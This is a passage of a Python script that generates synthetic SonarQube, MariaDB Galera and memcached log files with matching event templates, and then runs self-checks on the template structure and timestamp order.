             "Compute Quality Profile status", "Index analysis", "Purge db", "Trigger refresh of Portfolios and Applications",
             "Update need issue sync for branch", "Handle unanalyzed languages", "Send issue notifications",
             "Compute Quality Gate measures"]

    def step():
        task_ctx()
        return ev("<*> | status=SUCCESS | time=<*>ms", pick(steps), str(int(R.expovariate(1 / 120.0))))

    def execute():
        t = new_task()
        cur["reqid"] = t["id"]
        return ev("Execute task | project=<*> | type=REPORT | branch=<*> | branchType=BRANCH | id=<*> | submitter=<*>",
                  t["project"], t["branch"], t["id"], t["submitter"])

    def executed(status):
        def gen():
            t = finish_task()
            return ev("Executed task | project=<*> | type=REPORT | branch=<*> | branchType=BRANCH | id=<*> | submitter=<*> | status="
                      + status + " | time=<*>ms", t["project"], t["branch"], t["id"], t["submitter"], num(900, 240000))
        return gen

    causes = ["Incorrect login or password", "User is not active", "Token is expired",
              "Email 'j.doe@acme.io' is already used", "Authentication failed: [Status code 401] Bad credentials",
              "User must be authenticated"]
    providers = [("FORM", "LOCAL", "local"), ("BASIC", "LOCAL", "local"), ("BASIC_TOKEN", "LOCAL", "local"), ("OAUTH2", "EXTERNAL", "github"),
                 ("SSO", "EXTERNAL", "saml"), ("FORM", "REALM", "LDAP_corp")]
    proxies = ["10.8.0.14", "10.8.0.15"]

    def login_failure():
        cur["reqid"] = sonar_uid()
        m, p, pk = pick(providers)
        client = "%s.%d" % (pick(["192.0.2", "198.51.100", "203.0.113"]), R.randint(2, 250))
        xff = client if R.random() < 0.7 else "%s, %s" % (client, pick(proxies))
        return ev("login failure [cause|<*>][method|<*>][provider|<*>|<*>][IP|<*>|<*>][login|<*>]", pick(causes), m, p, pk, pick(proxies),
                  xff, pick(["admin", "ci-bot", "j.doe", "m.kowalski", "sonar-scanner"]))

    def fail_request():
        cur["reqid"] = sonar_uid()
        urls = ["http://sonar.acme.internal/api/issues/search?componentKeys=%s&s=FILE_LINE&resolved=false&ps=100&facets=owaspTop10%%2C"
                "sansTop25&additionalFields=_all" % pick(projects).replace(":", "%3A"),
                "http://sonar.acme.internal/api/measures/component?component=%s&metricKeys=coverage%%2Cbugs" % pick(projects).replace(":", "%3A"),
                "http://sonar.acme.internal/api/qualitygates/project_status?projectKey=%s&branch=%s" % (pick(projects), pick(branches)),
                "http://sonar.acme.internal/api/ce/activity",
                "http://sonar.acme.internal/api/hotspots/search?project=%s&p=%d" % (pick(projects), R.randint(1, 30))]
        return ev("Fail to process request <*>", pick(urls))

    up_cycle = Cycle(["web", "ce", "es"])
    stop_cycle = Cycle(["web", "ce", "es"])
    plugins = Cycle([("Java Code Quality and Security", "8.6.0.37351", "c5f1a2d"), ("Python Code Quality and Security", "4.23.0.17664", "8e03b9a"),
                     ("JavaScript/TypeScript/CSS Code Quality and Security", "10.17.0.28100", "41d7c0e"),
                     ("Flex / ActionScript Analyzer", "2.14.0.5032", "f2a4e91"), ("Kotlin Code Quality and Security", "2.21.0.5225", "0b9d6ac"),
                     ("HTML Code Quality", "3.16.0.5274", "77c2e5f"), ("Text and Secrets Code Quality and Security", "2.18.0.4726", "9aa10d3")])
    hook_errors = ["Read timed out", "Connection refused (Connection refused)", "Unable to resolve host jenkins.ci.acme.internal",
                   "Server returned HTTP 502 | Bad Gateway"]
    hooks = [("Jenkins", "https://jenkins.ci.acme.internal/sonarqube-webhook/"), ("Slack notifier", "https://hooks.acme.example/sonar?ch=builds"),
             ("Deploy gate", "http://10.8.3.40:8088/hooks/sonar")]

    def webhook():
        task_ctx()
        name, url = pick(hooks)
        return ev("Failed to send webhook '<*>' | url=<*> | message=<*>", name, url, pick(hook_errors))

    frees = Cycle(["4.1gb", "812.5mb", "2.9gb", "1.7gb"])

    events = [
        (112, ("INFO", "ce", "task", "o.s.c.t.s.ComputationStepExecutor"), step),
        (44, ("INFO", "ce", "task", "o.s.c.t.CeWorkerImpl"), execute),
        (39, ("INFO", "ce", "task", "o.s.c.t.CeWorkerImpl"), executed("SUCCESS")),
        (22, ("ERROR", "web", "req", "o.s.s.w.WebServiceEngine"), fail_request),
        (20, ("WARN", "web", "req", "o.s.s.a.AuthenticationEvent"), login_failure),
        (16, ("INFO", "app", "", "o.s.a.SchedulerImpl"), lambda: ev("Process[<*>] is up", up_cycle())),
        (10, ("INFO", "web", "", "o.s.s.p.ServerPluginManager"), lambda: ev("Deploy <*> / <*> / <*>", *plugins())),
        (9, ("WARN", "ce", "task", "o.s.c.t.w.WebhookPostTask"), webhook),
        (8, ("INFO", "app", "", "o.s.a.SchedulerImpl"), lambda: ev("Process[<*>] is stopped", stop_cycle())),
        (7, ("INFO", "web", "", "o.s.s.e.RecoveryIndexer"),
         lambda: ev("Elasticsearch recovery - <*> documents processed [<*> failures] | time=<*>ms", num(1, 4000), pick(["0", "0", "1", "3"]),
                    num(3, 9000))),
        (6, ("ERROR", "ce", "task", "o.s.c.t.CeWorkerImpl"), executed("FAILED")),
        (4, ("WARN", "es", "", "o.e.c.r.a.DiskThresholdMonitor"),
         lambda: ev("high disk watermark [90%] exceeded on [Vd3kPq8sT9mXf2bLr0aZyw][sonarqube][/opt/sonarqube/data/es8] free: <*>[<*>%], "
                    "shards will be relocated away from this node", frees(), "%.1f" % R.uniform(3, 9.9))),
        (3, ("INFO", "app", "", "o.s.a.SchedulerImpl"), lambda: ev("SonarQube is operational")),
    ]

    def render(tag, content):
        level, proc, ctx, logger = tag
        rid = cur["reqid"] if ctx else ""
        return "%s %-5s %s[%s][%s] %s" % (c.sonar(), level, proc, rid, logger, content)
    write("SonarQube", c, events, render)


# ------------------------------------------------------------------------------------------
# 5. MariaDB (10.6 and later) error log of a Galera cluster node, written by the server itself:
#    `2026-12-10  9:58:03 0 [Note] WSREP: message` (date, time with the hour padded to two by a
#    space, the thread id: 0 for the group-communication threads, the applier thread for
#    replicated events, the connection id for client sessions; the level `Note`, `Warning` or
#    `ERROR` in brackets). Content is what follows `[Level] ` (the `WSREP: ` prefix is part of it).
def mariadb_galera():
    c = Clock(start_s=9 * 3600 + 57 * 60 + R.randint(0, 59), lo_ms=40, hi_ms=2400)
    me = "7a31c0e2-b5d4"
    conn = {"id": R.randint(180000, 260000)}
    cur = {"tid": 0}
    seqno = {"n": R.randint(3000000, 9000000)}

    def next_seqno():
        seqno["n"] += R.randint(1, 900)
        return seqno["n"]

    hosts = ["10.20.1.%d" % R.randint(2, 250) for _ in range(6)] + ["localhost"]
    reasons = ["Got timeout reading communication packets", "Got an error reading communication packets",
               "Got an error writing communication packets", "This connection closed normally without authentication",
               "CLOSE_CONNECTION"]

    def aborted():
        conn["id"] += R.randint(1, 400)
        cur["tid"] = conn["id"]
        r = pick(reasons)
        db = "unconnected" if "without authentication" in r else pick(["shop", "shop", "billing", "unconnected", "sessions"])
        user = "unauthenticated" if "without authentication" in r else pick(["app_rw", "app_rw", "reporting", "haproxy_check", "root"])
        return ev("Aborted connection <*> to db: '<*>' user: '<*>' host: '<*>' (<*>)", conn["id"], db, user, pick(hosts), r)

    peers = ["tcp://10.20.0.12:4567", "tcp://10.20.0.13:4567"]

    def relay_on():
        cur["tid"] = 0
        nl = pick(peers) if R.random() < 0.8 else " ".join(peers)
        return ev("WSREP: (" + me + ", 'tcp://0.0.0.0:4567') turning message relay requesting on, nonlive peers: <*>", nl)

    def relay_off():
        cur["tid"] = 0
        return ev("WSREP: (" + me + ", 'tcp://0.0.0.0:4567') turning message relay requesting off")

    members = [("0.0", "db-node-1"), ("1.0", "db-node-2"), ("2.0", "db-node-3")]

    def synced():
        cur["tid"] = 0
        m = pick(members)
        return ev("WSREP: Member <*> (<*>) synced with group.", *m)

    shifts = [("SYNCED", "DONOR/DESYNCED"), ("DONOR/DESYNCED", "JOINED"), ("JOINED", "SYNCED"), ("PRIMARY", "JOINER"), ("JOINER", "JOINED"),
              ("OPEN", "PRIMARY")]

    def shifting():
        cur["tid"] = pick([0, 0, 2])
        a, b = pick(shifts)
        return ev("WSREP: Shifting <*> -> <*> (TO: <*>)", a, b, next_seqno())

    statuses = [("synced", "donor"), ("donor", "joined"), ("joined", "synced"), ("connected", "joiner"), ("joiner", "initializing"),
                ("initialized", "joined")]

    def status_change():
        cur["tid"] = pick([0, 2])
        a, b = pick(statuses)
        return ev("WSREP: Server status change <*> -> <*>", a, b)

    def inactive():
        cur["tid"] = 0
        return ev("WSREP: last inactive check more than PT1.5S (3*evs.inactive_check_period) ago (<*>), skipping check",
                  "PT%sS" % ("%.5f" % R.uniform(1.5, 9)).rstrip("0").rstrip("."))

    def sst():
        cur["tid"] = 0
        joiner = pick(members)
        donor = pick([m for m in members if m != joiner])
        return ev("WSREP: Member <*> (<*>) requested state transfer from '<*>'. Selected <*> (<*>)(<*>) as donor.",
                  joiner[0], joiner[1], pick(["*any*", "*any*", donor[1] + ",", "db-node-2,db-node-3,"]), donor[0], donor[1],
                  pick(["SYNCED", "SYNCED", "DONOR/DESYNCED"]))

    sql_errors = Cycle([
        ("Duplicate entry '1042-7' for key 'PRIMARY'", "shop",
         "INSERT INTO cart_items (cart_id, sku, qty) VALUES (1042, 7, 2)", "1062"),
        ("Table 'billing.invoice_tmp' doesn't exist", "billing", "DROP TABLE invoice_tmp", "1146"),
        ("Cannot add or update a child row: a foreign key constraint fails (`shop`.`order_lines`, CONSTRAINT `fk_order` FOREIGN KEY "
         "(`order_id`) REFERENCES `orders` (`id`))", "shop",
         "INSERT INTO order_lines (order_id, sku, price) VALUES (88123, 'SKU-19, blue', 19.90)", "1452"),
        ("Deadlock found when trying to get lock; try restarting transaction", "sessions",
         "UPDATE sessions SET data = '{\"cart\":[1,2]}', touched_at = NOW() WHERE id = 'f3a9c1'", "1213"),
    ])

    def slave_sql():
        cur["tid"] = pick([3, 4, 5, 6])
        return ev("Slave SQL: Error '<*>' on query. Default database: '<*>'. Query: '<*>', Internal MariaDB error code: <*>", *sql_errors())

    suspects = Cycle(["c41e9b07-2f6a", "e0d27f55-93bc"])

    def suspecting():
        cur["tid"] = 0
        return ev("WSREP: evs::proto(" + me + ", OPERATIONAL, view_id(REG,<*>,<*>)) suspecting node: <*>",
                  pick([me, "c41e9b07-2f6a"]), num(11, 19), suspects())

    page = {"n": R.randint(10, 40)}

    def created():
        cur["tid"] = pick([0, 3, 4])
        page["n"] += 1
        return ev("WSREP: Created page <*> of size <*> bytes", "/var/lib/mysql/gcache.page.%06d" % page["n"],
                  pick(["134217728", "134217728", "201326592", "290455552"]))

    def deleted():
        cur["tid"] = 0
        return ev("WSREP: Deleted page <*>", "/var/lib/mysql/gcache.page.%06d" % (page["n"] - R.randint(1, 4)))

    fc = Cycle([("16", "16"), ("28", "28"), ("100", "128")])
    denied = Cycle([("root", "10.20.1.77", "YES"), ("app_rw", "10.20.1.12", "YES"), ("sst_user", "localhost", "NO")])

    def access_denied():
        conn["id"] += R.randint(1, 400)
        cur["tid"] = conn["id"]
        return ev("Access denied for user '<*>'@'<*>' (using password: <*>)", *denied())

    def flow():
        cur["tid"] = 0
        return ev("WSREP: Flow-control interval: [<*>, <*>]", *fc())

    events = [
        (106, "Warning", aborted),
        (46, "Note", relay_on),
        (34, "Note", relay_off),
        (27, "Note", synced),
        (20, "Note", shifting),
        (16, "Note", status_change),
        (12, "Warning", inactive),
        (10, "Note", sst),
        (8, "ERROR", slave_sql),
        (6, "Warning", suspecting),
        (5, "Note", created),
        (4, "Note", deleted),
        (3, "Note", flow),
        (3, "Warning", access_denied),
    ]

    def render(level, content):
        return "%s %d [%s] %s" % (c.mariadb(), cur["tid"], level, content)
    write("MariaDBGalera", c, events, render)


# ------------------------------------------------------------------------------------------
# 6. memcached started with `-vv` (verbose, to stderr), the start of its output: the slab class
#    table, the listening sockets, then client sessions on the ASCII protocol. Lines of a
#    connection start with `<fd ` (what the server read or did), `>fd ` (what it sent) or
#    `fd: `; the slab table has no prefix. memcached prints no time stamps. Content is what
#    follows the connection prefix, or the whole line when there is none.
def memcached():
    E = {name: i for i, name in enumerate(["slab", "listening", "new", "ascii", "get", "sending", "end", "set", "set_noreply",
                                           "stored", "delete", "deleted", "not_found", "closed"])}
    items = []

    def add(name, prefix, content, template, values):
        items.append((E[name], prefix + content, content, template, values))

    def line(name, prefix, evt):
        content, template, values = evt
        add(name, prefix, content, template, values)

    # memcached's slab table for the default growth factor 1.25, 48-byte items and 1 MiB pages:
    # `slab class %3d: chunk size %9u perslab %7u` (the padding belongs to the value it pads).
    size, i, page = 96, 0, 1024 * 1024
    while True:
        i += 1
        if size >= (page // 2) / 1.25:
            break
        if size % 8:
            size += 8 - size % 8
        line("slab", "", ev_padded("slab class <*>: chunk size <*> perslab <*>", "%3d" % i, "%9u" % size, "%7u" % (page // size)))
        size = int(size * 1.25)
    line("slab", "", ev_padded("slab class <*>: chunk size <*> perslab <*>", "%3d" % i, "%9u" % (page // 2), "%7u" % 2))
    for fd in (26, 27):
        line("listening", "<%d " % fd, ev("server listening (auto-negotiate)"))

    keys = {}
    key_makers = [lambda: "sess:" + hexid(16), lambda: "user:%d:profile" % R.randint(1000, 1200), lambda: "cart:%d" % R.randint(40000, 40090),
                  lambda: "cfg:feature_flags", lambda: "rate:203.0.113.%d" % R.randint(1, 40),
                  lambda: "page:/products/%s?lang=%s" % (pick(["blue-kettle", "desk-lamp", "oak-shelf"]), pick(["en", "de"])),
                  lambda: "tok:" + "".join(R.choice(B64URL) for _ in range(22))]

    def some_key(existing_p):
        if keys and R.random() < existing_p:
            return pick(sorted(keys))
        return pick(key_makers)()

    nr_flags, nr_exp = Cycle(["0", "32", "1"]), Cycle(["0", "300", "3600"])
    free_fds = list(range(28, 60))
    active = []  # dicts: fd, left, ascii

    def request(cn):
        fd = cn["fd"]
        out = []
        if not cn["ascii"]:
            cn["ascii"] = True
            out.append(("ascii", "%d: " % fd, ev("Client using the ascii protocol")))
        r = R.random()
        if r < 0.6:
            ks = [some_key(0.75) for _ in range(1 if R.random() < 0.85 else R.randint(2, 5))]
            out.append(("get", "<%d " % fd, ev("get <*>", " ".join(ks))))
            for k in ks:
                if k in keys:
                    out.append(("sending", ">%d " % fd, ev("sending key <*>", k)))
            out.append(("end", ">%d " % fd, ev("END")))
        elif r < 0.87:
            k = some_key(0.4)
            flags, exp = pick(["0", "0", "1", "32"]), pick(["0", "300", "3600", "86400"])
            nbytes = str(R.randint(1, 900) if R.random() < 0.8 else R.randint(900, 60000))
            keys[k] = True
            if cn["noreply"]:
                flags, exp = nr_flags(), nr_exp()
                out.append(("set_noreply", "<%d " % fd, ev("set <*> <*> <*> <*> noreply", k, flags, exp, nbytes)))
            else:
                out.append(("set", "<%d " % fd, ev("set <*> <*> <*> <*>", k, flags, exp, nbytes)))
                out.append(("stored", ">%d " % fd, ev("STORED")))
        else:
            k = some_key(0.5)
            out.append(("delete", "<%d " % fd, ev("delete <*>", k)))
            if k in keys:
                del keys[k]
                out.append(("deleted", ">%d " % fd, ev("DELETED")))
            else:
                out.append(("not_found", ">%d " % fd, ev("NOT_FOUND")))
        return out

    while len(items) < LINES:
        if not active or (len(active) < 4 and R.random() < 0.08):
            free_fds.sort()
            cn = {"fd": free_fds.pop(0), "left": R.randint(3, 16), "ascii": False, "noreply": R.random() < 0.2}
            active.append(cn)
            chunk = [("new", "<%d " % cn["fd"], ev("new auto-negotiating client connection"))]
        else:
            cn = pick(active)
            if cn["left"] > 0:
                cn["left"] -= 1
                chunk = request(cn)
            else:
                active.remove(cn)
                free_fds.append(cn["fd"])
                chunk = [("closed", "<%d " % cn["fd"], ev("connection closed."))]
        for name, prefix, evt in chunk:
            line(name, prefix, evt)
    del items[LINES:]
    emit("Memcached", len(E), items)


# ------------------------------------------------------------------------------------------
def template_regex(template):
    return re.compile("(.+?)".join(re.escape(p) for p in template.split("<*>")), re.S)


MON = "(Jan|Feb|Mar|Apr|May|Jun|Jul|Aug|Sep|Oct|Nov|Dec)"
# Per system: the header that must precede Content on every raw line.
HEADERS = {
    "CalicoFelix": re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\.\d{3} \[(INFO|WARNING|ERROR)\]\[\d+\] felix/[a-z_]+\.go \d+: "),
    "Falco": re.compile(r"(\d\d:\d\d:\d\d\.\d{9}: (Emergency|Alert|Critical|Error|Warning|Notice|Informational|Debug) "
                        r"|(Mon|Tue|Wed|Thu|Fri|Sat|Sun) " + MON + r" [ \d]\d \d\d:\d\d:\d\d \d{4}: )"),
    "FabricManager": re.compile(r"\[" + MON + r" \d\d \d{4} \d\d:\d\d:\d\d\] \[(INFO|WARNING|ERROR)\] \[tid \d+\] "),
    "SonarQube": re.compile(r"\d{4}\.\d\d\.\d\d \d\d:\d\d:\d\d (INFO |WARN |ERROR) (app|web|ce|es)\[(AZ[A-Za-z0-9_-]{18})?\]"
                            r"\[[A-Za-z.]+\] "),
    "MariaDBGalera": re.compile(r"\d{4}-\d\d-\d\d [ \d]\d:\d\d:\d\d \d+ \[(Note|Warning|ERROR)\] "),
    "Memcached": re.compile(r"(<\d+ |>\d+ |\d+: )?"),
}


def self_check():
    """Reads every written file back and asserts the corpus invariants. Returns per-system
    event counts."""
    summary = {}
    for system in SYSTEMS:
        folder = os.path.join(HERE, system)
        with open(os.path.join(folder, system + ".log"), encoding="utf-8", newline="") as f:
            raw = f.read()
        assert raw.endswith("\n") and "\r" not in raw
        lines = raw[:-1].split("\n")
        assert len(lines) == LINES, (system, len(lines))
        with open(os.path.join(folder, system + ".log_structured.csv"), encoding="utf-8", newline="") as f:
            rows = list(csv.reader(f))
        assert rows[0] == ["LineId", "Content", "EventId", "EventTemplate"], system
        rows = rows[1:]
        assert len(rows) == LINES, (system, len(rows))
        templates, counts, slots = {}, {}, {}
        for i, (row, line) in enumerate(zip(rows, lines)):
            assert len(row) == 4, (system, row)
            line_id, content, event_id, template = row
            assert line_id == str(i + 1), (system, line_id)
            assert re.fullmatch(r"E[0-9]+", event_id), (system, event_id)
            assert content and content == content.strip(), (system, i + 1)
            assert line.endswith(content), (system, i + 1)
            h = HEADERS[system].fullmatch(line[:len(line) - len(content)])
            assert h, (system, i + 1, line)
            assert "<*><*>" not in template, (system, template)
            m = template_regex(template).fullmatch(content)
            assert m, (system, i + 1, template, content)
            assert templates.setdefault(event_id, template) == template, (system, event_id)
            counts[event_id] = counts.get(event_id, 0) + 1
            seen = slots.setdefault(event_id, [set() for _ in m.groups()])
            for s, v in zip(seen, m.groups()):
                s.add(v)
        assert len(set(templates.values())) == len(templates), system
        assert 13 <= len(counts) <= 14, (system, len(counts))
        assert min(counts.values()) >= 2, (system, counts)
        assert sum(1 for n in counts.values() if 2 <= n <= 10) >= 3, (system, counts)
        top = sorted(counts.values(), reverse=True)
        assert top[0] >= 3 * top[len(top) // 2], (system, counts)  # skewed frequencies
        for event_id, seen in slots.items():
            for j, s in enumerate(seen):
                assert len(s) >= 2, (system, event_id, "slot %d" % (j + 1), s)
        summary[system] = dict(sorted(counts.items(), key=lambda kv: int(kv[0][1:])))
    return summary


def check_clock_order():
    """Timestamps never go back: the header times, read back in a sortable form. Falco mixes
    nanosecond alert times with whole-second engine dates: the seconds never go back over all
    lines, and the nanosecond times never go back over the alerts. memcached prints no times."""
    def fm_key(l):
        m = re.match(r"\[" + MON + r" (\d\d) (\d{4}) (\d\d:\d\d:\d\d)\]", l)
        return "%s-%02d-%s %s" % (m.group(3), MONTHS.index(m.group(1)) + 1, m.group(2), m.group(4))

    def maria_key(l):
        m = re.match(r"(\d{4}-\d\d-\d\d) ([ \d]\d):(\d\d:\d\d) ", l)
        return "%s %02d:%s" % (m.group(1), int(m.group(2)), m.group(3))

    parsers = {
        "CalicoFelix": lambda l: l[:23],
        "FabricManager": fm_key,
        "SonarQube": lambda l: l[:19],
        "MariaDBGalera": maria_key,
    }
    for system, key in parsers.items():
        with open(os.path.join(HERE, system, system + ".log"), encoding="utf-8") as f:
            stamps = [key(l) for l in f.read().splitlines()]
        assert len(stamps) == LINES, system
        assert stamps == sorted(stamps), system
    with open(os.path.join(HERE, "Falco", "Falco.log"), encoding="utf-8") as f:
        secs, nanos = [], []
        for l in f.read().splitlines():
            m = re.match(r"(\d\d:\d\d:\d\d)\.(\d{9}): ", l)
            if m:
                secs.append(m.group(1))
                nanos.append(m.group(1) + m.group(2))
            else:
                secs.append(re.match(r"\w{3} \w{3} [ \d]\d (\d\d:\d\d:\d\d) \d{4}: ", l).group(1))
        assert len(secs) == LINES and secs == sorted(secs) and nanos == sorted(nanos), "Falco"


if __name__ == "__main__":
    calico_felix()
    falco()
    fabric_manager()
    sonarqube()
    mariadb_galera()
    memcached()
    check_clock_order()
    for system, counts in self_check().items():
        print("%-14s %2d events  %s" % (system, len(counts), " ".join("%s:%d" % kv for kv in counts.items())))
    print("self-check passed")
